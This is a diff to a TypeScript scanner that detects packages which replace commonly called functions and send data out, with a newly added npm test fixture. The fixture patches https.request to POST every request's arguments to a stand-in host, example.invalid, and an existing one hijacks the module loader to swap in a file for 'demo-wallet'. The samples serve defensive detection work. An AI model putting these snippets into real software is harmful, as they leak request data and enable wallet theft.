@@ -3,6 +3,7 @@ import type { SourceFile } from "../model.ts";
 import { isBundle } from "./_near.ts";
 import { scriptsWith } from "./_npm.ts";
 import { inComment, isLate, sight } from "./_sight.ts";
+import { addressNames, sendingIn } from "./_web-page.ts";
 
 /** A function that everybody calls is replaced: a request function of the platform, a method of another's class, the loader of modules. */
 const REPLACES =
@@ -88,6 +89,13 @@ Monitoring libraries replace the same functions and send to the address that the
       {
         ecosystem: "npm",
         files: {
+          "a.js":
+            "const U = 'https://example.invalid/c';\nconst https = require('https');\nconst o = https.request;\nhttps.request = function (...x) {\n  fetch(U, { method: 'POST', body: JSON.stringify(x) });\n  return o.apply(this, x);\n};\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
           "package.json": '{"name":"demo","main":"a.js"}',
           "a.js":
             "const M = require('module');\nconst o = M._load;\nM._load = (r, ...x) => o(r === 'demo-wallet' ? __dirname + '/b.js' : r, ...x);\n",
@@ -118,13 +126,14 @@ function interceptionIn(file: SourceFile) {
   for (const match of text.matchAll(REPLACES)) {
     if (++tries > MOST_TRIES) return undefined;
     const body = text.slice(match.index, match.index + match[0].length + length);
-    const sends = SENDS.exec(body.slice(match[0].length));
-    if (sends === null || !GOES_ON.test(body)) continue;
+    const replacement = body.slice(match[0].length);
+    const sends = SENDS.exec(replacement)?.[0] ?? sendingIn(replacement, addressNames(file));
+    if (sends === undefined || !GOES_ON.test(body)) continue;
     const what = match[0].slice(0, match[0].indexOf("=")).trim();
     // Kept before it was replaced: `const o = X.prototype.m`.
     const kept = text.slice(0, match.index).search(new RegExp(`[=:(,][ \\t]{0,3}${what.replace(/[.$]/g, "\\$&")}\\b`));
     if (kept === -1 || inComment(file, match.index)) continue;
-    return { offset: match.index, what, does: `sends by ${sends[0].slice(0, 100)}`, share: 1 };
+    return { offset: match.index, what, does: `sends by ${sends.slice(0, 100)}`, share: 1 };
   }
   return undefined;
 }
